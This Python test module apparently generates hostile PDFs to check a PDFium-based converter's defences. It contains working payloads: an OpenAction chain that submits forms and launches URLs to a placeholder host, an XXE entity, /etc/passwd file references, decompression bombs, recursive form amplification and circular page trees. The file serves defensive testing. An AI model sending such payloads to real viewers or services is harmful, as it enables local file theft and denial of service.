"""PDFs that point outside, multiply or never end (PDFium)."""

from __future__ import annotations

import zlib
from pathlib import Path

from hostile.attack import OK, REFUSED, Make, fill, row
from hostile.packing import MB, zeros
from hostile.traps import Traps


def pdf(
    *objects: str | bytes,
    box: str = "0 0 200 200",
    page: str = "",
    catalog: str = "",
    kids: str = "3 0 R",
    count: int = 1,
) -> Make:
    """Catalog (1), pages (2), one page (3), then `objects` from 4 on."""

    def make(path: Path, traps: Traps) -> None:
        parts = [
            f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
            f"<< /Type /Pages /Count {count} /Kids [{kids}] >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] {page} >>",
            *objects,
        ]
        data, places = b"%PDF-1.7\n", []
        for number, part in enumerate(parts, 1):
            content = part if isinstance(part, bytes) else fill(part, traps, path.stem).encode()
            places.append(len(data))
            data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        table = b"".join(b"%010d 00000 n \n" % place for place in places)
        end = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(parts) + 1, table)
        end += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(parts) + 1)
        path.write_bytes(data + end + b"startxref\n%d\n%%%%EOF\n" % len(data))

    return make


def stream(data: bytes | str, words: str = "") -> bytes:
    data = data.encode() if isinstance(data, str) else data
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), words.encode(), data)


def _laughs(depth: int) -> tuple[list[str | bytes], str]:
    """Forms that each draw the next ten times."""
    forms: list[str | bytes] = [
        stream(
            "/X Do " * 10,
            "/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
            f"/Resources << /XObject << /X {6 + n} 0 R >> >>",
        )
        for n in range(depth)
    ]
    last = stream("0 0 9 9 re f", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    page = "/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>"
    return [stream("/X Do"), *forms, last], page


_FORMS, _FORM_PAGE = _laughs(9)
_TWICE = zlib.compress(zlib.compress(zeros(2048 * MB), 9), 9)
_FLATE = "/Filter /FlateDecode"
_IMAGE = "/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8"
_DRAW = "/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>"
_ACTIONS = (
    "/OpenAction << /S /URI /URI ({http}) /Next [<< /S /GoToR /F ({file}) /D [0 /Fit] >> "
    "<< /S /Launch /F ({file}) >> << /S /SubmitForm /F << /FS /URL /F ({http}) >> >> "
    "<< /S /JavaScript /JS (app.launchURL\\('{http}'\\); this.submitForm\\('{http}'\\)) >> "
    "<< /S /ImportData /F ({file}) >>] >>"
)
_XFA = (
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE x [<!ENTITY e SYSTEM "{uri}">]>'
    '<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><field><value>'
    '<image href="{http}"/></value></field></subform></template></xdp:xdp>'
)

ATTACKS = (
    row("pdf-actions", "pdf > png txt", pdf(catalog=_ACTIONS), OK, *REFUSED),
    row("pdf-xfa", "pdf > png", pdf(_XFA, catalog="/AcroForm << /XFA 4 0 R /Fields [] >>"), OK),
    row("pdf-external-stream", "pdf > png txt",
        pdf("<< /Length 0 /F ({file}) >>\nstream\n\nendstream", page="/Contents 4 0 R"),
        OK, *REFUSED),
    row("pdf-external-image", "pdf > png",
        pdf(stream("200 0 0 200 0 0 cm /X Do"),
            "<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB "
            "/BitsPerComponent 8 /Length 0 /F ({file.png}) >>\nstream\n\nendstream", page=_DRAW)),
    row("pdf-opi", "pdf > png",
        pdf(stream("/X Do"), stream("", "/Subtype /Form /BBox [0 0 9 9] /Type /XObject "
            "/OPI << /2.0 << /Type /OPI /Version 2.0 /F (/etc/passwd) >> >> "
            "/Ref << /F (/etc/passwd) /Page 0 >>"), page=_DRAW), OK),
    row("pdf-pages", "pdf > jpg", pdf(kids="3 0 R " * 200_000, count=200_000)),
    row("pdf-count-lies", "pdf > jpg txt", pdf(count=2_000_000_000)),
    row("pdf-count-negative", "pdf > jpg", pdf(count=-5)),
    row("pdf-tree-circle", "pdf > png", pdf(kids="2 0 R 3 0 R", count=2)),
    row("pdf-huge-page", "pdf > png", pdf(box="0 0 100000000 100000000")),
    row("pdf-empty-page", "pdf > png", pdf(box="0 0 0 0")),
    row("pdf-unit", "pdf > png", pdf(page="/UserUnit 1000000")),
    row("pdf-dpi", "pdf > png", pdf(box="0 0 14400 14400"), dpi=600),
    row("pdf-stream-bomb", "pdf > png txt",
        pdf(stream(zeros(1024 * MB), _FLATE), page="/Contents 4 0 R")),
    row("pdf-stream-nested", "pdf > png",
        pdf(stream(_TWICE, "/Filter [/FlateDecode /FlateDecode /FlateDecode]"),
            page="/Contents 4 0 R")),
    row("pdf-image-bomb", "pdf > png",
        pdf(stream("200 0 0 200 0 0 cm /X Do"),
            stream(zeros(900 * MB), f"{_IMAGE} {_FLATE} /Width 30000 /Height 30000"),
            page=_DRAW)),
    row("pdf-image-lies", "pdf > png",
        pdf(stream("200 0 0 200 0 0 cm /X Do"),
            stream(b"x", f"{_IMAGE} /Width 2147483647 /Height 2147483647"), page=_DRAW)),
    row("pdf-laughs", "pdf > png", pdf(*_FORMS, page=_FORM_PAGE)),
    row("pdf-form-circle", "pdf > png",
        pdf(stream("/X Do"), stream("/X Do " * 20, "/Type /XObject /Subtype /Form "
            "/BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"), page=_DRAW)),
    row("pdf-drawing", "pdf > png",
        pdf(stream("0 0 m " + "200 0 0 200 9 9 c " * 200_000 + "S"), page="/Contents 4 0 R")),
    row("pdf-pattern", "pdf > png",
        pdf(stream("/Pattern cs /P scn 0 0 200 200 re f"),
            stream("0 0 .01 .01 re f", "/PatternType 1 /PaintType 1 /TilingType 1 "
                "/BBox [0 0 .01 .01] /XStep .001 /YStep .001 /Resources << >>"),
            page="/Contents 4 0 R /Resources << /Pattern << /P 5 0 R >> >>")),
    row("pdf-prev-circle", "pdf > txt", b"%PDF-1.4\nxref\n0 0\ntrailer << /Size 1 /Root 1 0 R "
        b"/Prev 9 >>\nstartxref\n9\n%%EOF\n", *REFUSED),
    row("pdf-deep-arrays", "pdf > png", pdf("[" * 100_000 + "]" * 100_000, page="/X 4 0 R")),
)  # fmt: skip
